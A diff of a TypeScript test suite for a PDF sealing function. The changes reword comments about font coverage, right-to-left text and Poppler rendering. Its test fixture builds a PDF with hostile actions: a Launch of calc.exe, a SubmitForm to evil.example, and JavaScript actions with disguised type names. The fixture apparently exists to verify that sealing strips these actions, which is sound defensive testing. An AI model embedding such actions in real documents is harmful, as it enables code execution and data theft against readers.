@@ -9,7 +9,7 @@ import { readPdf } from '#functions/document-text/read-pdf.ts';
 import { sealPdf, type SealFonts, type SealWork } from '#functions/_shared/pdf/seal-pdf.ts';
 import { facesOnDisk } from './seal-faces-on-disk.ts';
 
-// What a sealed document is written with, and what is taken out of it. That it is sound: tests/db/embedded-sealing.test.ts.
+// What sealing adds to a document, and what it removes. That the seal is valid: tests/db/embedded-sealing.test.ts.
 
 const font = (name: string) =>
   new Uint8Array(readFileSync(new URL(`../../supabase/functions/_shared/fonts/${name}`, import.meta.url)));
@@ -31,7 +31,7 @@ const facts: SealWork['facts'] = {
 };
 const textOf = async (bytes: Uint8Array) => (await readPdf(bytes.slice())).text.replace(/\s+/g, ' ');
 
-/** Making one takes a second. */
+/** Shared, because creating a key takes a second. */
 let key: string | null = null;
 async function sealed(
   bytes: Uint8Array,
@@ -47,7 +47,7 @@ async function sealed(
   return made.bytes;
 }
 const agreement = () => new Uint8Array(pdfOf(['The fee is 100.']));
-/** The certificate page of people with these names, all typed. */
+/** The certificate page for signers with these names, all typed. */
 const signedBy = (names: readonly string[], more?: SealFonts['more']) => sealed(agreement(), { names, more });
 
 const scripts = {
@@ -76,7 +76,7 @@ it('writes names in nine scripts with what is on the disk, and asks for no more 
   const bytes = await signedBy(Object.values(scripts), counted);
   expect(asked.length).toBeLessThan(16);
   expect(asked.every((file) => file.endsWith('-400-normal.woff'))).toBe(true);
-  // Our own reader gives those back that are drawn as they are written.
+  // Our own reader extracts only scripts whose glyphs are drawn in writing order.
   const text = await textOf(bytes);
   const { Cyrillic, Greek, Chinese, Japanese, Korean } = scripts;
   for (const name of [Cyrillic, Greek, Chinese, Japanese, Korean]) expect(text).toContain(name);
@@ -91,7 +91,7 @@ it('writes letters that no face has as their numbers, never as others', async ()
   expect(await textOf(await signedBy(['முரு 王'], facesOnDisk))).toContain('[U+0BC1] 王');
 }, 90_000);
 
-/** A file that runs something wherever one can, and has a link and the names that only look like it. */
+/** A file with a script or action everywhere one can be, an ordinary link, and names that only look like scripts. */
 async function withActions(): Promise<Uint8Array> {
   const pdf = await PDFDocument.load(pdfOf(['The fee is 100.']));
   const { context, catalog } = pdf;
@@ -117,7 +117,7 @@ async function withActions(): Promise<Uint8Array> {
     context.obj([
       link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
       link(context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })),
-      // Its kind is somewhere else, or spelled in another way.
+      // The action's type is indirect, or spelled with escapes.
       link(context.obj({ S: name, JS: PDFString.of('elsewhere()') })),
       link(context.obj({ S: PDFName.of('Java#53cript'), JS: PDFString.of('spelled()') })),
       link(
@@ -175,7 +175,7 @@ it('does not seal while a face that is needed can’t be had', async () => {
   await expect(signedBy(['王小明'], lost)).rejects.toThrow('gone');
 });
 
-// Poppler is a reader of PDFs that is none of ours.
+// Poppler is an independent PDF reader.
 const hasPoppler = ['pdftotext', 'pdftoppm'].every(
   (program) => spawnSync(program, ['-v']).error === undefined,
 );
@@ -190,7 +190,7 @@ it.skipIf(!hasPoppler)(
       rmSync(folder, { recursive: true });
     });
     const file = path.join(folder, 'sealed.pdf');
-    /** Pixels of the signature's place that are darker than paper. */
+    /** Pixels in the signature area that are darker than paper. */
     const darkness = (bytes: Uint8Array): number => {
       writeFileSync(file, bytes);
       const place = ['-x', '50', '-y', '138', '-W', '250', '-H', '42'];
@@ -202,7 +202,7 @@ it.skipIf(!hasPoppler)(
       const bytes = await signedBy([name], facesOnDisk);
       expect(darkness(bytes), script).toBeGreaterThan(80);
       const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' });
-      // It says around what reads from the right that it does.
+      // Poppler wraps right-to-left text in direction marks.
       expect(text.replaceAll(/[\u200e\u200f\u202a-\u202e]/g, '').split('\n'), script).toEqual(
         expect.arrayContaining([name]),
       );
